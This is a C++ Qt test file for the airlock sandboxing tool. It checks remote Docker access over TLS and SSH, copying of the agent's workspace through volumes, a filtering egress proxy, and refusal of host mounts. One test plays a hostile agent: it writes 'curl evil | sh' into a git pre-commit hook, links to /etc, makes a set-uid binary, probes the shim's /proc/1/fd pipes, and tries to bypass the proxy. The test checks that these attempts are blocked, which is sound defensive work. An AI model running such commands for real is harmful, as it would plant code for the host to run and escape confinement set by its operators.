// A Docker daemon reached over TCP with TLS client certificates (DOCKER_HOST tcp://, DOCKER_TLS_VERIFY,
// DOCKER_CERT_PATH): a second dockerd that this test starts on a loopback port, with a CA and
// certificates it makes (second-dockerd.sh). The client talks to it only through verified TLS, a
// daemon signed by another CA and a client without a certificate are refused with the reason. A
// daemon over TCP may be on another machine, so a sandbox there works on copies in volumes: nothing is
// bound from this machine, the shim is reached over the attach stream, and the workspace comes back
// without what must not (protected names, set-id bits, links followed).
#include "dockertestutil.h"
#include "egress/egressproxy.h"
#include "egress/resolver.h"
#include "egresstestutil.h"

#include <QDir>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QScopeGuard>
#include <QTemporaryDir>
#include <QtTest>

#include <sys/stat.h>

using namespace airlock;
using namespace airlock::docker;
using namespace airlock::docker::test;

namespace {

const QString kScript = QStringLiteral(AIRLOCK_SOURCE_DIR "/tests/docker/second-dockerd.sh");

// A CA and client certificate of their own, unknown to the daemon.
bool makeStrangerCertificates(const QString &dir)
{
    const auto openssl = [&dir](const QStringList &args) {
        QProcess p;
        p.setWorkingDirectory(dir);
        p.start(QStringLiteral("openssl"), args);
        return p.waitForFinished(30000) && p.exitCode() == 0;
    };
    return openssl({QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"), QStringLiteral("rsa:2048"),
                    QStringLiteral("-nodes"), QStringLiteral("-keyout"), QStringLiteral("key.pem"), QStringLiteral("-out"),
                    QStringLiteral("ca.pem"), QStringLiteral("-days"), QStringLiteral("1"), QStringLiteral("-subj"),
                    QStringLiteral("/CN=stranger")})
           && QFile::copy(dir + QStringLiteral("/ca.pem"), dir + QStringLiteral("/cert.pem"));
}

bool writeFile(const QString &path, const QByteArray &data)
{
    QFile f(path);
    return f.open(QIODevice::WriteOnly) && f.write(data) == data.size();
}

QByteArray readFile(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("<missing>");
}

QStringList volumesNamed(DockerClient *client, const QString &prefix)
{
    HttpRequest r;
    r.path = "/volumes";
    std::optional<Result<HttpResponse>> answer;
    client->send(r, nullptr, HttpHandlers{{}, {}, [&answer](const Result<HttpResponse> &a) { answer = a; }, {}});
    if (!QTest::qWaitFor([&answer] { return answer.has_value(); }, 15000) || !*answer)
        return {QStringLiteral("<no answer>")};
    QStringList names;
    for (const QJsonValue &v : QJsonDocument::fromJson((*answer)->body).object().value(u"Volumes").toArray()) {
        const QString name = v.toObject().value(u"Name").toString();
        if (name.startsWith(prefix))
            names << name;
    }
    return names;
}

} // namespace

class TestDockerRemote : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    QString m_daemonDir;
    quint16 m_port = 0;
    QString m_skip;

    DockerEndpoint endpoint(const QString &certPath) const
    {
        return *DockerEndpoint::parse(QStringLiteral("tcp://127.0.0.1:%1").arg(m_port), true, true, certPath);
    }
    QString clientCerts() const { return m_daemonDir + QStringLiteral("/client"); }

private Q_SLOTS:
    void initTestCase()
    {
        m_daemonDir = m_dir.filePath(QStringLiteral("daemon"));
        QProcess start;
        start.start(QStringLiteral("bash"), {kScript, QStringLiteral("start"), m_daemonDir});
        QVERIFY(start.waitForFinished(90000));
        if (start.exitCode() == 77) {
            m_skip = QString::fromLocal8Bit(start.readAllStandardError()).trimmed();
            return;
        }
        QVERIFY2(start.exitCode() == 0, start.readAllStandardError().constData());
        m_port = quint16(start.readAllStandardOutput().trimmed().toUInt());
        QVERIFY(m_port > 0);
    }

    void init()
    {
        if (!m_skip.isEmpty())
            QSKIP(qPrintable(m_skip));
    }

    void cleanupTestCase()
    {
        if (m_port)
            QProcess::execute(QStringLiteral("bash"), {kScript, QStringLiteral("stop"), m_daemonDir});
    }

    void verifiedTlsWithClientCertificates()
    {
        DockerClient client(endpoint(clientCerts()));
        auto ping = await(client.ping());
        QVERIFY2(ping, qPrintable(ping ? QString() : ping.error().message));
        auto info = await(client.info());
        QVERIFY(info);
        QVERIFY(!info->value(u"ServerVersion").toString().isEmpty());
        // A request with a body and a streamed answer: the offline base image, imported over TLS.
        auto built = await(buildBaseImage(&client, {}), 120000);
        QVERIFY2(built, qPrintable(built ? QString() : built.error().message));
        QVERIFY(await(client.inspectImage(QString::fromLatin1(kBaseImage))));
    }

    void daemonOfAnotherCaIsRefused()
    {
        // The client trusts only a stranger's CA: the real daemon's certificate must not pass.
        const QString stranger = m_dir.filePath(QStringLiteral("stranger"));
        QVERIFY(QDir().mkpath(stranger));
        QVERIFY(makeStrangerCertificates(stranger));
        DockerClient client(endpoint(stranger));
        auto ping = await(client.ping());
        QVERIFY(!ping);
        QVERIFY2(ping.error().message.contains(QLatin1String("TLS handshake")) && ping.error().message.contains(stranger),
                 qPrintable(ping.error().message));
    }

    void clientWithoutCertificateIsRefused()
    {
        const QString caOnly = m_dir.filePath(QStringLiteral("ca-only"));
        QVERIFY(QDir().mkpath(caOnly));
        QVERIFY(QFile::copy(clientCerts() + QStringLiteral("/ca.pem"), caOnly + QStringLiteral("/ca.pem")));
        DockerClient client(endpoint(caOnly));
        auto ping = await(client.ping());
        QVERIFY(!ping);
        QVERIFY2(ping.error().message.contains(QStringLiteral("127.0.0.1:%1").arg(m_port)), qPrintable(ping.error().message));
    }

    void sandboxWorksOnCopiesOfTheWorkspace()
    {
        // Over TCP the daemon may be on another machine: nothing is bound from this one. The workspace
        // is copied into a volume, the agent works on it there, and it comes back safely.
        QTemporaryDir work;
        const QString ws = work.filePath(QStringLiteral("ws"));
        QVERIFY(QDir().mkpath(ws + QStringLiteral("/src")));
        QVERIFY(QDir().mkpath(ws + QStringLiteral("/.git/hooks")));
        const QString deep = QStringLiteral("a-folder-name-that-is-rather-long/another-folder-name-that-is-long-too/"
                                            "and-a-file-whose-name-makes-the-path-longer-than-one-hundred.txt");
        QVERIFY(QDir().mkpath(QFileInfo(ws + u'/' + deep).path()));
        QVERIFY(writeFile(ws + QStringLiteral("/README.md"), "read me\n"));
        QVERIFY(writeFile(ws + QStringLiteral("/src/a.txt"), "before\n"));
        QVERIFY(writeFile(ws + u'/' + deep, "deep\n"));
        QVERIFY(writeFile(ws + QStringLiteral("/.git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n"));
        ::chmod(QFile::encodeName(work.path()).constData(), 0711);

        DockerBackendOptions options;
        options.shimPath = QStringLiteral(AIRLOCK_SHIM_PATH);
        options.runtimeDir = work.filePath(QStringLiteral("run"));
        auto *client = new DockerClient(endpoint(clientCerts()));
        DockerBackend backend(client, options);
        client->setParent(&backend);
        QVERIFY(backend.isRemote());
        sandbox::SandboxSpec spec;
        spec.policy = hardened();
        spec.policy.filesystem.workspace = policy::Access::ReadWrite;
        spec.policyName = QStringLiteral("hardened");
        spec.workspace = ws;
        QString why;
        DockerSandbox *s = start(backend, spec, &why);
        QVERIFY2(s, qPrintable(why));
        QVERIFY(s->isRemote());

        // Nothing of this machine is bound into it: only volumes.
        auto inspected = await(client->inspectContainer(s->containerId()));
        QVERIFY(inspected);
        const QJsonObject host = inspected->value(u"HostConfig").toObject();
        QVERIFY(host.value(u"Binds").toArray().isEmpty());
        for (const QJsonValue &m : inspected->value(u"Mounts").toArray())
            QVERIFY2(m.toObject().value(u"Type").toString() != u"bind", qPrintable(m.toObject().value(u"Source").toString()));

        Outcome o = run(s, {QStringLiteral("cat"), QStringLiteral("README.md"), deep});
        QVERIFY2(o.status && o.status->succeeded(), o.err.constData());
        QCOMPARE(o.out, QByteArray("read me\ndeep\n"));
        // What an agent does, and what a hostile one tries: a hook for the host to run, a link out of
        // the workspace, a set-uid program.
        o = run(s, {QStringLiteral("sh"), QStringLiteral("-c"),
                    QStringLiteral("echo new > out.txt && echo after > src/a.txt && rm README.md && "
                                   "echo 'curl evil | sh' > .git/hooks/pre-commit && ln -s /etc escape && "
                                   "cp /bin/busybox suid && { chmod 4755 suid 2>/dev/null; true; } && mkdir -p made/inner && echo x > made/inner/y")});
        QVERIFY2(o.status && o.status->succeeded(), o.err.constData());
        // The control stream is pipes the shim holds as PID 1: nothing in the sandbox may open them
        // through /proc to read the backend's requests or forge frames.
        o = run(s, {QStringLiteral("sh"), QStringLiteral("-c"),
                    QStringLiteral("cat /proc/1/comm; n=0; for f in /proc/1/fd/*; do (echo forged > $f) 2>/dev/null && n=$((n+1)); "
                                   "(head -c 1 < $f) 2>/dev/null && n=$((n+1)); done; echo opened=$n")});
        QVERIFY2(o.out == "shim\nopened=0\n", QByteArray(o.out + o.err).constData());
        // Not here yet: the sandbox works on its copy.
        QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/out.txt")));

        auto pulled = await(s->pullWorkspace(), 60000);
        QVERIFY2(pulled, qPrintable(pulled ? QString() : pulled.error().message));
        QCOMPARE(readFile(ws + QStringLiteral("/out.txt")), QByteArray("new\n"));
        QCOMPARE(readFile(ws + QStringLiteral("/src/a.txt")), QByteArray("after\n"));
        QCOMPARE(readFile(ws + QStringLiteral("/made/inner/y")), QByteArray("x\n"));
        QCOMPARE(readFile(ws + u'/' + deep), QByteArray("deep\n"));
        QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/README.md")));
        QCOMPARE(readFile(ws + QStringLiteral("/.git/hooks/pre-commit")), QByteArray("#!/bin/sh\nexit 0\n"));
        QVERIFY(QFileInfo(ws + QStringLiteral("/escape")).isSymLink());
        struct stat st{};
        QCOMPARE(::lstat(QFile::encodeName(ws + QStringLiteral("/suid")).constData(), &st), 0);
        QCOMPARE(st.st_mode & 07000, 0u);

        // A rewind changes the folder here: the copy is made to match it, removals included.
        QVERIFY(QFile::remove(ws + QStringLiteral("/out.txt")));
        QVERIFY(writeFile(ws + QStringLiteral("/pushed.txt"), "pushed\n"));
        auto pushed = await(s->pushWorkspace(), 60000);
        QVERIFY2(pushed, qPrintable(pushed ? QString() : pushed.error().message));
        o = run(s, {QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("cat pushed.txt; ls out.txt 2>&1; ls -a .git/hooks")});
        QVERIFY2(o.out.startsWith("pushed\n") && o.out.contains("No such file"), o.out.constData());
        QVERIFY2(o.out.contains("pre-commit"), o.out.constData());

        // The last changes come back when it is destroyed, and its copies go from the daemon.
        o = run(s, {QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("echo last > last.txt")});
        QVERIFY(o.status && o.status->succeeded());
        const QString container = s->containerId();
        const QString io = s->containerName() + QStringLiteral("-io");
        const QString id = s->id();
        QCOMPARE(volumesNamed(client, QStringLiteral("airlock-") + id).size(), 2); // the workspace and the shim
        QVERIFY(destroyAndWait(backend, s, 60000));
        QCOMPARE(readFile(ws + QStringLiteral("/last.txt")), QByteArray("last\n"));
        QVERIFY(!await(client->inspectContainer(container)));
        QVERIFY(!await(client->inspectContainer(io)));
        QVERIFY2(volumesNamed(client, QStringLiteral("airlock-") + id).isEmpty(), "its volumes are left on the daemon");
    }

    void egressThroughTheTunnel()
    {
        // The proxy's socket is on this machine and the container on the daemon's: each connection to
        // the shim's proxy port travels over the attach stream to it. Allowed names go through, others
        // get the proxy's 403, and nothing leaves the container any other way.
        egress::test::Upstream upstream;
        QVERIFY(upstream.listen());
        upstream.respond = [](const egress::test::SeenRequest &r) {
            if (r.target == "/upload")
                return egress::test::Upstream::ok(QByteArray::number(r.body.size()));
            if (r.target == "/download")
                return egress::test::Upstream::ok(QByteArray(3000000, 'z'));
            return egress::test::Upstream::ok("hello " + r.target);
        };
        auto resolver = std::make_shared<egress::StaticResolver>();
        resolver->add(QStringLiteral("api.test"), {QHostAddress(QHostAddress::LocalHost)});
        egress::ProxyOptions proxyOptions;
        proxyOptions.resolver = resolver;
        egress::EgressProxy proxy(proxyOptions);

        QTemporaryDir work;
        const QString ws = work.filePath(QStringLiteral("ws"));
        QVERIFY(QDir().mkpath(ws));
        DockerBackendOptions options;
        options.shimPath = QStringLiteral(AIRLOCK_SHIM_PATH);
        options.runtimeDir = work.filePath(QStringLiteral("run"));
        auto *client = new DockerClient(endpoint(clientCerts()));
        DockerBackend backend(client, options);
        client->setParent(&backend);
        policy::Policy p = hardened();
        p.network.mode = policy::NetworkMode::Proxy;
        p.network.allow = {QStringLiteral("api.test:*")};
        p.network.allowAddressClasses = {QStringLiteral("loopback")};
        QString why;
        DockerSandbox *s = start(backend, {p, QStringLiteral("hardened"), ws, QStringLiteral("session-remote-egress"), {}, {}}, &why);
        QVERIFY2(s, qPrintable(why));
        QVERIFY(proxy.addSandbox(egress::SandboxSpec{QStringLiteral("session-remote-egress"),
                                                     s->info().controlDir + QStringLiteral("/proxy.sock"), p, 0600}));
        const QString port = QString::number(upstream.port());
        const Outcome allowed = run(s, {QStringLiteral("wget"), QStringLiteral("-q"), QStringLiteral("-O"), QStringLiteral("-"),
                                        QStringLiteral("http://api.test:%1/remote").arg(port)});
        QVERIFY2(allowed.code() == 0 && allowed.out == "hello /remote", QByteArray(allowed.out + allowed.err).constData());
        // Bigger than the tunnel's window, both ways.
        // busybox wget cannot post a file: the upload is written by hand to the proxy port.
        const Outcome big = run(s, {QStringLiteral("sh"), QStringLiteral("-c"),
                                    QStringLiteral("{ printf 'POST http://api.test:%1/upload HTTP/1.1\\r\\nHost: api.test:%1\\r\\n"
                                                   "Content-Length: 3000000\\r\\nConnection: close\\r\\n\\r\\n'; head -c 3000000 /dev/zero; } "
                                                   "| nc 127.0.0.1 3128 | tail -c 7; echo; wget -q -O - http://api.test:%1/download | wc -c")
                                        .arg(port)},
                                60000);
        QVERIFY2(big.code() == 0 && big.out.simplified() == "3000000 3000000", QByteArray(big.out + big.err).constData());
        const Outcome denied = run(s, {QStringLiteral("wget"), QStringLiteral("-q"), QStringLiteral("-O"), QStringLiteral("-"),
                                       QStringLiteral("http://blocked.test/")});
        QVERIFY(denied.code() != 0);
        QVERIFY2(denied.err.contains("403"), denied.err.constData());
        const Outcome bypass = run(s, {QStringLiteral("wget"), QStringLiteral("-q"), QStringLiteral("-T"), QStringLiteral("5"),
                                       QStringLiteral("-Y"), QStringLiteral("off"), QStringLiteral("-O"), QStringLiteral("-"),
                                       QStringLiteral("http://127.0.0.1:%1/direct").arg(port)});
        QVERIFY(bypass.code() != 0);
        QCOMPARE(upstream.requests.size(), 3);
        proxy.removeSandbox(QStringLiteral("session-remote-egress"));
        QVERIFY(destroyAndWait(backend, s, 60000));
    }

    void overSsh()
    {
        // DOCKER_HOST=ssh://: each connection is `ssh HOST docker system dial-stdio`, here through a real
        // sshd on a loopback port whose sessions reach the second daemon (ssh-server.sh).
        const QString sshDir = m_dir.filePath(QStringLiteral("ssh"));
        QProcess server;
        server.start(QStringLiteral("bash"), {QStringLiteral(AIRLOCK_SOURCE_DIR "/tests/docker/ssh-server.sh"), QStringLiteral("start"), sshDir,
                                              QString::number(m_port), clientCerts(), QStringLiteral(AIRLOCK_BUILD_DIR "/ssh-cache")});
        QVERIFY(server.waitForFinished(120000));
        if (server.exitCode() == 77)
            QSKIP(server.readAllStandardError().trimmed().constData());
        QVERIFY2(server.exitCode() == 0, server.readAllStandardError().constData());
        const QString sshPort = QString::fromLatin1(server.readAllStandardOutput().trimmed());
        const auto stop = qScopeGuard([&] {
            QProcess::execute(QStringLiteral("bash"), {QStringLiteral(AIRLOCK_SOURCE_DIR "/tests/docker/ssh-server.sh"), QStringLiteral("stop"), sshDir});
        });
        QFile opts(sshDir + QStringLiteral("/ssh-opts"));
        QVERIFY(opts.open(QIODevice::ReadOnly));
        QProcessEnvironment env;
        env.insert(QStringLiteral("DOCKER_HOST"), QStringLiteral("ssh://root@127.0.0.1:") + sshPort);
        env.insert(QStringLiteral("AIRLOCK_DOCKER_SSH_OPTS"), QString::fromUtf8(opts.readAll()).trimmed());
        auto e = DockerEndpoint::fromEnvironment(env);
        QVERIFY2(e, qPrintable(e ? QString() : e.error().message));

        QTemporaryDir work;
        const QString ws = work.filePath(QStringLiteral("ws"));
        QVERIFY(QDir().mkpath(ws));
        QVERIFY(writeFile(ws + QStringLiteral("/in.txt"), "over ssh\n"));
        DockerBackendOptions options;
        options.shimPath = QStringLiteral(AIRLOCK_SHIM_PATH);
        options.runtimeDir = work.filePath(QStringLiteral("run"));
        auto *client = new DockerClient(*e);
        DockerBackend backend(client, options);
        client->setParent(&backend);
        QVERIFY(backend.isRemote());
        sandbox::SandboxSpec spec;
        spec.policy = hardened();
        spec.policy.filesystem.workspace = policy::Access::ReadWrite;
        spec.workspace = ws;
        QString why;
        DockerSandbox *s = start(backend, spec, &why);
        QVERIFY2(s, qPrintable(why));
        const Outcome o = run(s, {QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("cat in.txt > out.txt")});
        QVERIFY2(o.status && o.status->succeeded(), o.err.constData());
        QVERIFY(destroyAndWait(backend, s, 60000));
        QCOMPARE(readFile(ws + QStringLiteral("/out.txt")), QByteArray("over ssh\n"));

        // A key the server does not know: refused, with ssh's own words.
        env.insert(QStringLiteral("AIRLOCK_DOCKER_SSH_OPTS"), QStringLiteral("-F /dev/null -o IdentitiesOnly=yes -i /dev/null "
                                                                         "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"));
        DockerClient stranger(*DockerEndpoint::fromEnvironment(env));
        auto ping = await(stranger.ping());
        QVERIFY(!ping);
        QVERIFY2(ping.error().message.contains(QLatin1String("ssh")), qPrintable(ping.error().message));
    }

    void readWriteHostMountIsRefusedWithTheReason()
    {
        auto *client = new DockerClient(endpoint(clientCerts()));
        DockerBackend backend(client, {});
        client->setParent(&backend);
        QTemporaryDir work;
        sandbox::SandboxSpec spec;
        spec.policy = hardened();
        spec.policy.filesystem.mounts.append(policy::Mount{work.path(), QStringLiteral("/data"), policy::Access::ReadWrite});
        QTemporaryDir ws;
        spec.workspace = ws.path();
        auto made = backend.create(spec);
        QVERIFY(!made);
        QVERIFY2(made.error().message.contains(QLatin1String("another machine")), qPrintable(made.error().message));
    }
};

QTEST_GUILESS_MAIN(TestDockerRemote)
#include "tst_docker_remote.moc"
